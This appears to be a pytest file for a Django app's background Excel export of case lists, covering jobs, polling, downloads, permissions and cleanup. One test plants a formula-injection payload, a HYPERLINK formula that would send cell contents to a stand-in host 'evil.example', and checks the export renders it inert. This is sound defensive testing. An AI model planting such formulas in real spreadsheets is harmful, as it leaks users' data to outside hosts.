"""Background exports: the job, the case-list exporter, the pages that start, poll and
download it, and the sweep of expired files."""

from __future__ import annotations

import datetime
import io
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from juli.cases.models import Case
from juli.cases.tests.conftest import new_case, put
from juli.core import exports
from juli.core.models import AuditLog, ExportJob
from juli.core.tasks import purge_submissions

from .conftest import stored_files


@pytest.fixture
def committed(django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    """Run a call and then what it queued on commit (the export task: immediate backend)."""

    def run(fn, *args, **kwargs):  # type: ignore[no-untyped-def]
        with django_capture_on_commit_callbacks(execute=True):
            return fn(*args, **kwargs)

    return run


def _workbook(job: ExportJob):  # type: ignore[no-untyped-def]
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        return load_workbook(io.BytesIO(handle.read()))


def _start(committed, client, user, query: str = "", **data):  # type: ignore[no-untyped-def]
    client.force_login(user)
    return committed(client.post, reverse("case-export") + query, data, HTTP_HX_REQUEST="true")


# --- The job and the case-list exporter ------------------------------------------------------------


def test_it_exports_the_filtered_cases_in_scope_with_inert_formulas(committed, cast, world) -> None:  # type: ignore[no-untyped-def]
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    bad = new_case(world, title="+SUM(1,2)", description=payload)
    put(bad, "dispatched", world)
    new_case(world, title="已受理的问题")  # reported, filtered out below
    other_street = new_case(world, area=cast.huaihai, actor=cast.district_admin, title="淮海")
    put(other_street, "dispatched", world)

    job, created = committed(
        exports.start_export,
        cast.street_officer,
        "cases.xlsx",
        {"filters": {"status": ["dispatched"]}},
    )
    job.refresh_from_db()
    assert created and (job.status, job.rows, job.error) == ("done", 1, "")
    assert job.filename == f"cases-{timezone.localdate():%Y%m%d}.xlsx"
    assert str(job.file.name).startswith("exports/") and job.file.name.endswith(job.filename)
    sheet = _workbook(job)["问题清单"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("编号", "标题", "问题描述", "问题分类", "状态", "来源")
    assert len(rows) == 2  # the header and the one dispatched case of Dapuqiao
    assert rows[1][0] == bad.number
    assert rows[1][1] == "'+SUM(1,2)"
    assert rows[1][2] == "'" + payload
    assert rows[1][3] == "暴露垃圾"
    assert isinstance(rows[1][11], datetime.datetime)
    for cell in next(sheet.iter_rows(min_row=2, max_row=2)):
        assert cell.data_type != "f"  # nothing in the file is a formula
    assert sheet.freeze_panes == "A2"
    log = AuditLog.objects.get(verb="export.start")
    assert (log.actor, log.after) == (
        cast.street_officer,
        {"kind": "cases.xlsx", "params": {"filters": {"status": ["dispatched"]}}},
    )


def test_it_exports_everything_the_district_sees_without_filters(committed, cast, world) -> None:  # type: ignore[no-untyped-def]
    cases = [new_case(world, title=f"问题{i}") for i in range(3)]
    new_case(world, area=cast.huaihai, actor=cast.district_admin, title="淮海")
    job, _ = committed(exports.start_export, cast.district_admin, "cases.xlsx", {"filters": {}})
    job.refresh_from_db()
    assert job.rows == 4
    numbers = [row[0] for row in _workbook(job).active.iter_rows(min_row=2, values_only=True)]
    assert set(numbers) >= {c.number for c in cases}
    street, _ = committed(exports.start_export, cast.street_officer, "cases.xlsx", {"filters": {}})
    street.refresh_from_db()
    assert street.rows == 3


def test_it_returns_the_same_job_for_the_same_request_within_a_minute(
    committed, cast, world
) -> None:  # type: ignore[no-untyped-def]
    params = {"filters": {"status": ["reported"]}}
    first, created = committed(exports.start_export, cast.street_officer, "cases.xlsx", params)
    again, created_again = committed(
        exports.start_export, cast.street_officer, "cases.xlsx", params
    )
    assert (created, created_again, again.pk) == (True, False, first.pk)
    other, created_other = committed(
        exports.start_export, cast.street_officer, "cases.xlsx", {"filters": {}}
    )
    assert created_other and other.pk != first.pk
    theirs, created_theirs = committed(
        exports.start_export, cast.district_admin, "cases.xlsx", params
    )
    assert created_theirs and theirs.pk != first.pk
    ExportJob.objects.filter(pk=first.pk).update(
        created_at=timezone.now() - datetime.timedelta(seconds=61)
    )
    later, created_later = committed(
        exports.start_export, cast.street_officer, "cases.xlsx", params
    )
    assert created_later and later.pk != first.pk
    assert AuditLog.objects.filter(verb="export.start").count() == 4


def test_it_refuses_an_unknown_kind_and_writes_nothing(committed, cast) -> None:  # type: ignore[no-untyped-def]
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        committed(exports.start_export, cast.street_officer, "nothing.xlsx", {})
    assert refused.value.code == "unknown_export"
    assert not ExportJob.objects.exists()
    assert not AuditLog.objects.filter(verb="export.start").exists()


def test_it_records_a_failure_with_a_clear_error(committed, cast, world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    def broken(params, owner):  # type: ignore[no-untyped-def]
        raise exports.ExportError("Too many cases: narrow the filters.")

    def crashing(params, owner):  # type: ignore[no-untyped-def]
        raise ZeroDivisionError("division by zero")

    monkeypatch.setitem(exports.EXPORTERS, "broken.xlsx", broken)
    monkeypatch.setitem(exports.EXPORTERS, "crashing.xlsx", crashing)
    job, _ = committed(exports.start_export, cast.street_officer, "broken.xlsx", {})
    job.refresh_from_db()
    assert (job.status, job.error, bool(job.file)) == (
        "failed",
        "Too many cases: narrow the filters.",
        False,
    )
    assert job.finished_at is not None
    crash, _ = committed(exports.start_export, cast.street_officer, "crashing.xlsx", {})
    crash.refresh_from_db()
    assert crash.status == "failed"
    assert crash.error == (
        "The export failed (ZeroDivisionError). Please try again or narrow the filters."
    )
    # A failed request is not a duplicate: asking again makes a new job.
    retry, created = committed(exports.start_export, cast.street_officer, "broken.xlsx", {})
    assert created and retry.pk != job.pk


def test_it_makes_a_job_once_when_it_runs_twice(committed, cast, world, media) -> None:  # type: ignore[no-untyped-def]
    new_case(world)
    job, _ = committed(exports.start_export, cast.street_officer, "cases.xlsx", {"filters": {}})
    job.refresh_from_db()
    name = job.file.name
    assert exports.run_export(job.pk) == "done"  # a redelivery: left alone
    job.refresh_from_db()
    assert job.file.name == name
    assert [f for f in stored_files(media) if f.startswith("exports/")] == [name]
    # A run killed midway (left "running") is made again from the start.
    ExportJob.objects.filter(pk=job.pk).update(status="running", file="", rows=0)
    assert exports.run_export(job.pk) == "done"
    job.refresh_from_db()
    assert job.rows == 1 and job.file.name != name
    assert exports.run_export(10**9) == ""  # gone


def test_it_sweeps_expired_exports_with_the_daily_purge(committed, cast, world, media) -> None:  # type: ignore[no-untyped-def]
    new_case(world)
    old, _ = committed(exports.start_export, cast.street_officer, "cases.xlsx", {"filters": {}})
    fresh, _ = committed(exports.start_export, cast.district_admin, "cases.xlsx", {"filters": {}})
    old.refresh_from_db()
    ExportJob.objects.filter(pk=old.pk).update(
        expires_at=timezone.now() - datetime.timedelta(minutes=1)
    )
    assert purge_submissions.enqueue().return_value == {"submissions": 0, "exports": 1}
    assert list(ExportJob.objects.values_list("pk", flat=True)) == [fresh.pk]
    assert old.file.name not in stored_files(media)
    assert purge_submissions.enqueue().return_value == {"submissions": 0, "exports": 0}


@pytest.mark.parametrize("count", [1, 30])
def test_it_streams_the_export_in_the_same_queries_at_any_size(  # type: ignore[no-untyped-def]
    committed, cast, world, django_assert_num_queries, count
) -> None:
    from juli.cases.exports import cases_xlsx

    for i in range(count):
        new_case(world, title=f"问题{i}")
    # scope (the membership is read from the person already loaded), form choices, the cases
    # (one query, streamed)
    with django_assert_num_queries(3):
        filename, path = cases_xlsx({"filters": {}}, cast.street_officer)
    assert isinstance(path, Path) and path.stat().st_size > 0
    assert len(list(load_workbook(path).active.iter_rows())) == count + 1  # type: ignore[union-attr]
    path.unlink()


# --- Pages: start, poll, download ---------------------------------------------------------------------


def test_it_starts_polls_and_downloads_an_export_from_the_case_list(
    client, committed, cast, world
) -> None:  # type: ignore[no-untyped-def]
    new_case(world, title="=1+1")
    client.force_login(cast.street_officer)
    page = client.get(reverse("case-list"))
    assert reverse("case-export") in page.content.decode()
    response = _start(committed, client, cast.street_officer, status="reported", area="")
    job = ExportJob.objects.get()
    assert job.params == {"filters": {"area": [""], "status": ["reported"]}}
    html = response.content.decode()
    # The job is queued when the answer is made; the partial polls its status.
    assert "Excel export queued" in html
    assert 'hx-trigger="every 2s"' in html
    html = client.get(
        reverse("case-export-status", args=[job.pk]), HTTP_HX_REQUEST="true"
    ).content.decode()
    assert "Excel export ready" in html
    assert reverse("case-export-download", args=[job.pk]) in html
    assert "hx-trigger" not in html  # finished: it stops polling
    download = client.get(reverse("case-export-download", args=[job.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"] == f'attachment; filename="{job.filename}"'
    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert book.active["B2"].value == "'=1+1"


@pytest.mark.parametrize(
    ("status", "rows", "shows", "polls"),
    [
        ("queued", 0, "Excel export queued", True),
        ("running", 1200, "1200 rows written", True),
        ("done", 3, "Excel export ready", False),
        ("failed", 0, "The Excel export failed", False),
    ],
)
def test_it_shows_each_state_in_the_polling_partial(  # type: ignore[no-untyped-def]
    client, cast, status, rows, shows, polls
) -> None:
    job = ExportJob.objects.create(
        owner=cast.street_officer,
        kind="cases.xlsx",
        status=status,
        rows=rows,
        error="Too many cases." if status == "failed" else "",
        filename="cases.xlsx",
        file="exports/x/cases.xlsx" if status == "done" else "",
        expires_at=timezone.now() + datetime.timedelta(hours=1),
    )
    client.force_login(cast.street_officer)
    url = reverse("case-export-status", args=[job.pk])
    html = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert shows in html
    assert ('hx-trigger="every 2s"' in html) is polls
    assert (f'hx-get="{url}"' in html) is polls
    assert ("Too many cases." in html) is (status == "failed")
    assert (reverse("case-export-download", args=[job.pk]) in html) is (status == "done")
    full = client.get(url)
    assert "<html" in full.content.decode() and shows in full.content.decode()
    if status != "done":
        assert client.get(reverse("case-export-download", args=[job.pk])).status_code == 404


def test_it_falls_back_to_a_page_without_javascript(client, committed, cast, world) -> None:  # type: ignore[no-untyped-def]
    client.force_login(cast.street_officer)
    response = client.post(reverse("case-export") + "?status=reported&after=abc")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("case-export-status", args=[job.pk])
    assert job.params == {"filters": {"status": ["reported"]}}


ROLES = [
    "outsider",
    "grid_worker",
    "inspector",
    "unit_staff",
    "branch_secretary",
    "district_admin",
    "platform_admin",
]


@pytest.mark.parametrize("who", ["anonymous", *ROLES])
def test_it_shows_and_serves_an_export_to_its_owner_only(
    client, committed, cast, world, who
) -> None:  # type: ignore[no-untyped-def]
    new_case(world)
    job, _ = committed(exports.start_export, cast.street_officer, "cases.xlsx", {"filters": {}})
    before = (ExportJob.objects.count(), AuditLog.objects.count())
    status_url = reverse("case-export-status", args=[job.pk])
    download_url = reverse("case-export-download", args=[job.pk])
    if who == "anonymous":
        for url in (status_url, download_url):
            response = client.get(url)
            assert response.status_code == 302 and response["Location"].startswith("/login/")
        assert client.post(reverse("case-export")).status_code == 302
    else:
        client.force_login(getattr(cast, who))
        assert client.get(status_url).status_code == 404
        assert client.get(download_url).status_code == 404
    assert (ExportJob.objects.count(), AuditLog.objects.count()) == before


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        ("outsider", False),
        ("grid_worker", False),
        ("unit_staff", False),
        ("street_officer", True),
        ("district_admin", True),
        ("platform_admin", True),
    ],
)
def test_it_lets_only_office_users_start_an_export(
    client, committed, cast, world, who, allowed
) -> None:  # type: ignore[no-untyped-def]
    client.force_login(getattr(cast, who))
    response = client.post(reverse("case-export"), HTTP_HX_REQUEST="true")
    assert response.status_code == (200 if allowed else 404)
    assert ExportJob.objects.filter(owner=getattr(cast, who)).count() == (1 if allowed else 0)
    assert AuditLog.objects.filter(verb="export.start").count() == (1 if allowed else 0)


def test_it_refuses_to_start_an_export_with_get(client, committed, cast) -> None:  # type: ignore[no-untyped-def]
    client.force_login(cast.street_officer)
    assert client.get(reverse("case-export")).status_code == 405
    assert not ExportJob.objects.exists()


def test_it_checks_the_case_list_has_the_export_button_in_chinese(
    client, committed, cast, settings
) -> None:  # type: ignore[no-untyped-def]
    client.force_login(cast.street_officer)
    assert Case.objects.count() == 0
    assert "Export to Excel" in client.get(reverse("case-list")).content.decode()
